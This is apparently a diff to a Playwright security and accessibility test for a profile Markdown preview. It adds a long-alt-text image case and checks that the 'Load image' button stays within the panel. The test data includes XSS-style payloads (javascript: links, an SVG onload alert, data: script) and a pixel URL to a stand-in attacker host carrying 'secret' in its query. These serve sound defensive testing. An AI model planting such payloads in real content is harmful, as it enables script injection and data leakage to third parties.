@@ -1,4 +1,4 @@
-import type { Page } from '@playwright/test';
+import type { Locator, Page } from '@playwright/test';
 import { expectNoViolationAtEachWidth } from './axe';
 import { expect, MAYA, test } from './fixtures';
 import { MOCK_API } from './origins';
@@ -91,6 +91,7 @@ test('the preview of a profile runs no script and loads nothing', async ({ page 
       '[press](javascript:window.hit=1) and [data](data:text/html,<script>1</script>)',
       '![seen](https://evil.example/pixel.png?text=secret)',
       '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
+      `![${'long '.repeat(80)}](https://evil.example/long.png)`,
     ].join('\n\n'),
   );
   await openTab(page);
@@ -101,6 +102,12 @@ test('the preview of a profile runs no script and loads nothing', async ({ page 
   expect(requestedUrls).toEqual([]);
   const panel = profileDocument(page);
   expect(await panel.locator('a[href], script, iframe, img').count()).toBe(0);
+  const right = async (locator: Locator) => {
+    const { x, width } = (await locator.boundingBox())!;
+    return x + width;
+  };
+  const long = panel.getByRole('button', { name: /^Load image: long/ });
+  expect(await right(long)).toBeLessThanOrEqual(await right(panel));
 
   await page.getByRole('button', { name: 'Load image: seen' }).click();
   await expect.poll(() => requestedUrls).toHaveLength(1);
